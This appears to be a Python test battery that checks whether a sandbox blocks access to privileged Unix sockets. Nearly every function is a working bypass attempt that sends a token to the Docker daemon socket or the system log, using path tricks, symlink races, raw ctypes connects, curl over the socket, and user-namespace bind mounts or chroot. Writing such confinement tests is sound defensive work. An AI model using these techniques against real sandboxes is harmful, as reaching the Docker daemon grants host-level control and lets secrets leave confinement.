"""Unix sockets: a container daemon, a bus or a logger will call out for whoever asks."""

from __future__ import annotations

import asyncio
import contextlib
import ctypes
import logging.handlers
import os
import signal
import socket
import subprocess
import sys
import time
from pathlib import Path

from attempts.calls import LIBC, checked
from table import attempt

DOCKER = "/run/docker.sock"
ABSTRACT = "\0bypass-abstract"


def say(aim, path, kind=socket.SOCK_STREAM):
    with socket.socket(socket.AF_UNIX, kind) as opened:
        opened.settimeout(1)
        opened.connect(path)
        opened.sendall(aim.request("docker"))
        if kind == socket.SOCK_STREAM:
            opened.recv(100)


@attempt("unix", quick=True)
def connect(aim):
    say(aim, DOCKER)


@attempt("unix")
def connect_by_bytes(aim):
    say(aim, DOCKER.encode())


@attempt("unix")
def connect_ex(aim):
    opened = socket.socket(socket.AF_UNIX)
    opened.connect_ex(DOCKER)
    opened.sendall(aim.request())


@attempt("unix")
def with_dots(aim):
    say(aim, f"{aim.scratch}/../../../run/docker.sock")


@attempt("unix")
def with_slashes(aim):
    say(aim, "//run///./docker.sock")


@attempt("unix", alone=True)
def relative(aim):
    os.chdir("/run")
    say(aim, "docker.sock")


@attempt("unix")
def through_proc_cwd(aim):
    say(aim, os.path.join("/proc/self", "root", "run/docker.sock"))


@attempt("unix")
def through_a_descriptor(aim):
    fd = os.open("/run", os.O_RDONLY)
    say(aim, f"/proc/self/fd/{fd}/docker.sock")


@attempt("unix")
def through_a_descriptor_of_the_socket(aim):
    fd = os.open(DOCKER, os.O_PATH)
    say(aim, f"/proc/self/fd/{fd}")


@attempt("unix", quick=True)
def link_in_the_temporary_folder(aim):
    link = Path(aim.scratch, "link.sock")
    link.symlink_to(DOCKER)
    say(aim, str(link))


@attempt("unix")
def linked_folder_in_the_temporary_folder(aim):
    link = Path(aim.scratch, "folder")
    link.symlink_to("/run")
    say(aim, str(link / "docker.sock"))


@attempt("unix", seconds=10)
def link_that_changes(aim):
    """Points at a socket of ours when it is looked at, at the daemon's when it is used. Ends when the daemon has answered."""
    own = Path(aim.scratch, "own.sock")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(own))
    server.listen(1000)
    server.setblocking(False)
    link, other = Path(aim.scratch, "turn.sock"), Path(aim.scratch, "next.sock")
    link.symlink_to(own)
    turning = os.fork()
    if turning == 0:
        while True:
            for target in (DOCKER, own):
                other.unlink(missing_ok=True)
                other.symlink_to(target)
                other.rename(link)
    until = time.monotonic() + 2
    while time.monotonic() < until:
        with contextlib.suppress(Exception), socket.socket(socket.AF_UNIX) as opened:
            opened.settimeout(0.2)
            opened.connect(str(link))
            opened.sendall(aim.request())
            if not _hangs_up(server) and opened.recv(1):
                break
    os.kill(turning, signal.SIGKILL)
    os.waitpid(turning, 0)
    server.close()


def _hangs_up(server):
    """Whether somebody called; whoever did is let go at once."""
    try:
        server.accept()[0].close()
    except BlockingIOError:
        return False
    return True


@attempt("unix")
def ctypes_connect(aim):
    opened = socket.socket(socket.AF_UNIX)
    name = b"\1\0" + DOCKER.encode() + b"\0"
    checked(LIBC.connect(opened.fileno(), name, len(name)))
    opened.sendall(aim.request())


@attempt("unix")
def ctypes_without_a_terminator(aim):
    opened = socket.socket(socket.AF_UNIX)
    name = b"\1\0" + DOCKER.encode()
    checked(LIBC.connect(opened.fileno(), name, len(name)))
    opened.sendall(aim.request())


@attempt("unix")
def abstract(aim):
    say(aim, ABSTRACT)


@attempt("unix")
def abstract_by_ctypes(aim):
    opened = socket.socket(socket.AF_UNIX)
    name = b"\1\0" + ABSTRACT.encode()
    checked(LIBC.connect(opened.fileno(), name, len(name)))
    opened.sendall(aim.request())


@attempt("unix")
def datagram(aim):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as opened:
        opened.sendto(aim.secret, "/run/log")


@attempt("unix")
def datagram_connected(aim):
    say(aim, "/run/log", socket.SOCK_DGRAM)


@attempt("unix")
def datagram_sendmsg(aim):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as opened:
        opened.sendmsg([aim.secret], [], 0, "/run/log")


@attempt("unix")
def datagram_from_a_pair(aim):
    """A datagram pair may send elsewhere than to its other end."""
    one, _other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    LIBC.connect(one.fileno(), b"\0\0", 2)
    one.sendto(aim.secret, "/run/log")


@attempt("unix")
def syslog(aim):
    logging.handlers.SysLogHandler("/run/log").emit(logging.makeLogRecord({"msg": aim.token}))


@attempt("unix", "module:httpx")
def httpx_over_unix(aim):
    import httpx

    httpx.Client(transport=httpx.HTTPTransport(uds=DOCKER)).get(f"http://docker/{aim.token}")


@attempt("unix", "module:aiohttp")
def aiohttp_over_unix(aim):
    import aiohttp

    async def get():
        async with aiohttp.ClientSession(connector=aiohttp.UnixConnector(DOCKER)) as client:
            await client.get(f"http://docker/{aim.token}")

    asyncio.run(get())


@attempt("unix", "program:curl")
def curl_over_unix(aim):
    subprocess.run(["curl", "-sm2", "--unix-socket", DOCKER, f"http://docker/{aim.token}"], check=False, capture_output=True)


@attempt("unix", "module:pycurl")
def pycurl_over_unix(aim):
    import pycurl

    client = pycurl.Curl()
    client.setopt(pycurl.URL, f"http://docker/{aim.token}")
    client.setopt(pycurl.UNIX_SOCKET_PATH, DOCKER)
    client.setopt(pycurl.TIMEOUT, 2)
    client.perform()


@attempt("unix")
def child_over_unix(aim):
    code = f"import socket; s=socket.socket(1); s.connect({DOCKER!r}); s.sendall(b'{aim.token}')"
    subprocess.run([sys.executable, "-ISc", code], check=False, capture_output=True)


@attempt("unix")
def hard_link(aim):
    link = Path("/run/here", "hard.sock")
    try:
        os.link(DOCKER, link)
    except OSError:
        link = Path(DOCKER)
    say(aim, str(link))


@attempt("unix", "program:unshare")
def mounted_into_the_temporary_folder(aim):
    """A user namespace of one's own may mount the daemon's socket where one likes."""
    own = Path(aim.scratch, "mounted.sock")
    own.touch()
    code = f"import socket; s=socket.socket(1); s.connect({str(own)!r}); s.sendall(b'{aim.token}')"
    act = f"mount --bind {DOCKER} {own} && exec {sys.executable} -ISc {code!r}"
    subprocess.run(["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", act], check=False, capture_output=True)


@attempt("unix", "program:unshare")
def changed_root(aim):
    """What the path means depends on the root that one has."""
    inner = Path(aim.scratch, "jail")
    (inner / "there").mkdir(parents=True)
    link = inner / "tmp"
    link.mkdir()
    code = (
        "import os, socket; s=socket.socket(1); os.chroot('/run'); os.chdir('/'); s.connect('/docker.sock');"
        f"s.sendall(b'{aim.token}')"
    )
    subprocess.run(["unshare", "--user", "--map-root-user", sys.executable, "-ISc", code], check=False, capture_output=True)


@attempt("unix")
def seqpacket_type_confusion(aim):
    """Another type first; the stream is tried all the same."""
    try:
        say(aim, DOCKER, socket.SOCK_SEQPACKET)
    except OSError:
        say(aim, DOCKER)


@attempt("unix")
def second_path_behind_a_null(aim):
    opened = socket.socket(socket.AF_UNIX)
    name = b"\1\0" + DOCKER.encode() + b"\0" + aim.scratch.encode()
    checked(LIBC.connect(opened.fileno(), ctypes.create_string_buffer(name, len(name)), len(name)))
    opened.sendall(aim.request())
